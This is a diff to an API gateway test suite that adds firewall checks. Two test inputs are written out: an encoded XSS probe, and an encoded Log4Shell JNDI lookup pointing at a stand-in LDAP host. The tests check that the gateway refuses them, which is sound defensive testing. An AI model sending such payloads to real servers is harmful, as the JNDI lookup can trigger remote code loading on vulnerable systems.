@@ -97,6 +97,24 @@ const paths = (baseUrl: string, key: Record<string, string>): Check[] => {
   ]
 }
 
+/** What a web page would have to fear and this API records. The firewall must let it pass wherever an id may stand. */
+const lookingLikeAttack = encodeURIComponent('http://192.0.2.1/<script>alert(1)</script>/a.log')
+/** A lookup of Log4j, encoded: ${jndi:ldap://192.0.2.1/a}. */
+const knownAttack = '%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D'
+
+const firewall = (baseUrl: string, key: Record<string, string>): Check[] => {
+  const get = (path: string) => () => ask(`${baseUrl}/api/${path}`, { headers: key })
+  return [
+    ['a strange id, in a path', get(`products/${lookingLikeAttack}`), refused(404)],
+    ['a strange id, in a filter', get(`prices?product_id=${lookingLikeAttack}`), refused(422)],
+    [
+      'a known attack, or no firewall',
+      get(`products/${knownAttack}`),
+      (answer) => refused(403)(answer) || refused(404)(answer),
+    ],
+  ]
+}
+
 const document = (baseUrl: string): Check[] => {
   const url = `${baseUrl}/openapi.json`
   const holds = ({ status, headers, json }: Answer): boolean =>
@@ -136,7 +154,13 @@ export const gatewaySteps = ({ baseUrl, appId, apiKey }: Destination): Step[] =>
     call: async () => ({ status: (await refusesOldTls(baseUrl)) ? 'refused' : 'accepted' }),
     holds: ({ status }: { status: string }) => status === 'refused',
   }
-  const checks = [...refusals(baseUrl, key), ...paths(baseUrl, key), ...document(baseUrl), ...pages(baseUrl)]
+  const checks = [
+    ...refusals(baseUrl, key),
+    ...paths(baseUrl, key),
+    ...firewall(baseUrl, key),
+    ...document(baseUrl),
+    ...pages(baseUrl),
+  ]
   return [
     ...checks.map(([operation, call, holds]) => ({ operation, call, holds })),
     ...(baseUrl.startsWith('https:') ? [transport] : []),
